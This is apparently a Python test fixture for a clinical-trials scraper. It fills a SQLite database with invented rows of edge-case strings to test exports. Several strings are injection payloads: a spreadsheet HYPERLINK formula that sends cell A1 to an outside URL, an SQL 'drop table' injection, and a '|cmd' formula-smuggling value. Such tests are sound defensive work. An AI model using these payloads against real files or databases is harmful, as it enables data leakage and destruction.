"""A database with hostile values, and an export of it, for tests of what other tools read back."""

import sqlite3
from contextlib import closing
from pathlib import Path
from typing import Any

from scraper.store import writer
from scraper.store.rows import columns
from tests.commands import rows, trials

HOSTILE = [
    '=HYPERLINK("https://example.org/?leak="&A1,"click")',
    '"',
    '""',
    ",",
    " leading and trailing ",
    "two\nlines",
    "carriage\r\nreturn and a lone \r one",
    "tab\tand control \x01\x08\x0b\x1b\x1f\x7f\x85",
    "NULL",
    "null",
    "NA",
    "nan",
    "\\N",
    "\\",
    "'; drop table trials; --",
    "007",
    "1e5",
    "true",
    "2026-01-01",
    "\ufeffmark",
    "\u2028\u2029",
    "Ω ≥ 日本語 🧪 e\u0301",
    "-1+1|cmd",
    "",
]
"""Texts that one or another format or reader is known to take for something else."""


def hostile_database(data: Path) -> None:
    """A trials.db of invented rows: every hostile text, NULL beside the empty text, and odd numbers."""
    with closing(writer.open_database(data / "trials.db")) as db, db.atomic():
        for number, text in enumerate(HOSTILE):
            trial_id = f"NCT{number:08}"
            row = dict.fromkeys(columns()["trials"])
            row |= {
                "trial_id": trial_id,
                "brief_title": text,
                "acronym": None if number % 2 else text,
                "overall_status": ["RECRUITING", "COMPLETED", None][number % 3],
                "minimum_age_years": [None, 0.0, 18.0, 1 / 3][number % 4],
                "maximum_age_before_years": [None, 76.0][number % 2],
                "enrollment": [None, 0, 2**53 + 1, -1][number % 4],
                "has_results": number % 2,
                "source": "ctgov",
                "source_id": trial_id,
                "first_seen_at": "2026-01-01T00:00:00Z",
                "last_seen_at": "2026-01-01T00:00:00Z",
                "last_changed_at": "2026-01-01",
            }
            db.conn.execute(f"insert into trials values ({', '.join('?' * len(row))})", (*row.values(),))
            db.conn.execute(
                "insert into trial_text (trial_id, eligibility_criteria) values (?, ?)", (trial_id, text)
            )
            db.conn.execute(
                "insert into problems values (?, 'ctgov', '', ?, 'parse', ?, ?, '', '2026-01-01')",
                (None if number % 2 else trial_id, text, text, text),
            )
        db.conn.execute("insert into variables values ('ecog', 'ECOG', 'number', null, null)")
        for number in range(9):
            trial_id = f"NCT{number:08}"
            db.conn.execute(
                "insert into criteria values (?, ?, 'inclusion', 'heading', 0, null, 0, null, 'ECOG', 0, 4)",
                (number << 40, trial_id),
            )
            db.conn.execute(
                "insert into criteria_constraints values"
                " (?, 0, ?, 'ecog', '<=', ?, null, null, null, ?, null, null, null, 'ECOG', 0, 4, 'r', 0.1)",
                (number << 40, trial_id, float(number % 3), number % 2),
            )
        db.conn.executemany(
            "insert into meta values (?, ?)",
            [
                ("snapshot_at", "2026-01-02T00:00:00Z"),
                ("title_ctgov", "ClinicalTrials.gov"),
                ("licence_ctgov", "public domain"),
                ("attribution_ctgov", "the registry"),
            ],
        )


def exported(data: Path, folder: Path, kind: str) -> Path:
    """The folder, with an export in that format."""
    result = trials(data, "export", folder, "--format", kind)
    assert result.exit_code == 0, result.output
    return folder


def table_names(data: Path) -> list[str]:
    """The tables of a database that are not part of an index, and not SQLite's own."""
    found = rows(
        data,
        "select name from sqlite_master where type = 'table' and name not like 'sqlite_%'"
        " and name not like '%fts%' and name not like '\\_%' escape '\\' order by name",
    )
    return [name for (name,) in found]


def ordered(data: Path, table: str) -> list[tuple[Any, ...]]:
    """All rows of a table, sorted so that NULL can be compared with a text."""
    return sorted(rows(data, f"select * from {table}"), key=repr)


def sql_types(data: Path, table: str) -> dict[str, str]:
    """The columns of a table with their SQL types, in order."""
    return {row[1]: row[2].upper() for row in rows(data, f"pragma table_info({table})")}


def change(data: Path, statement: str) -> None:
    """Change the database behind the program's back."""
    connection = sqlite3.connect(data / "trials.db")
    connection.execute(statement)
    connection.commit()
    connection.close()
